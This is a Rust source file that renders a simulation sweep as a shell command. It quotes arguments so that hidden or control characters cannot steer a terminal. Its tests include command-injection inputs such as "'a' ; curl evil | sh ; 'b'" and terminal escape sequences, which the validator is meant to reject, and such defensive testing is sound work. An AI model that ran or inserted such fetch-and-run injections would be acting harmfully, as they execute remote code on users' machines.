//! A sweep as the command that makes it.

use super::Order;
use crate::scene::range::Plain;
use crate::text::is_hidden;

/// How the command of every sweep begins.
const BEGINNING: &str = "ragdoll-lab sweep ";

impl Order {
    /// The command that makes the whole sweep of a scene of that name, without a folder.
    pub fn command(&self, scene: &str) -> String {
        format!("{BEGINNING}{}{}", quoted(scene), self.options())
    }

    /// Whether a text is the command that makes this sweep, of a scene of whatever name,
    /// and nothing besides.
    pub fn is_command(&self, text: &str) -> bool {
        let rest = text.strip_prefix(BEGINNING);
        let scene = rest.and_then(|rest| rest.strip_suffix(&self.options()));
        scene.is_some_and(is_word)
    }

    fn options(&self) -> String {
        let mut options: String = self.axes.iter().map(|axis| option("set", axis)).collect();
        options.extend(self.fixed.iter().map(|setting| option("fix", setting)));
        options += &option("nudges", &self.nudges);
        options += &option("nudge", &Plain(self.nudge_m));
        options + &option("limit", &Plain(self.limit_s))
    }
}

fn option(name: &str, value: &impl ToString) -> String {
    format!(" --{name} {}", quoted(&value.to_string()))
}

/// A word as a shell reads it back. Where characters are hidden it is a word of `$'…'`
/// with their bytes as octal numbers, so that nothing steers the terminal it is shown on
/// or pasted into.
pub fn quoted(word: &str) -> String {
    if is_harmless(word) {
        word.into()
    } else if word.contains(is_hidden) {
        let coded: String = word.chars().map(coded).collect();
        format!("$'{coded}'")
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

fn is_harmless(word: &str) -> bool {
    let harmless = |c: char| c.is_ascii_alphanumeric() || "_-+=.,:/@%".contains(c);
    !word.is_empty() && word.chars().all(harmless)
}

/// A character between `$'` and `'`.
fn coded(c: char) -> String {
    if !is_hidden(c) && c != '\'' && c != '\\' {
        return c.into();
    }
    let octal = |byte| format!("\\{byte:03o}");
    c.to_string().bytes().map(octal).collect()
}

/// Whether a text is a single word as [`quoted`] writes it.
fn is_word(text: &str) -> bool {
    let between = |start| text.strip_prefix(start)?.strip_suffix('\'');
    if let Some(coded) = between("$'") {
        return !coded.contains('\'') && !coded.ends_with('\\') && !coded.contains(is_hidden);
    }
    let word = between("'").map_or_else(|| text.to_owned(), |word| word.replace(r"'\''", "'"));
    quoted(&word) == text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_are_quoted_so_that_nothing_is_hidden() {
        for (word, expected) in [
            ("scenes/a-1.json", "scenes/a-1.json"),
            ("", "''"),
            ("a b's", r"'a b'\''s'"),
            ("a\u{1b}[31m'\\\n", r"$'a\033[31m\047\134\012'"),
            ("\u{202e}ü", r"$'\342\200\256ü'"),
        ] {
            assert_eq!(quoted(word), expected);
            assert!(is_word(expected), "{expected}");
        }
    }

    #[test]
    fn what_is_more_or_less_than_a_word_is_none() {
        for text in [
            "",
            "a b",
            "a;b",
            "'a' ; curl evil | sh ; 'b'",
            "$'a' ; curl evil | sh ; $'b'",
            r"$'a\'",
            "'a",
            "\u{1b}[31m",
            "'\u{1b}[31m'",
            "$'\u{202e}'",
        ] {
            assert!(!is_word(text), "{text}");
        }
    }
}
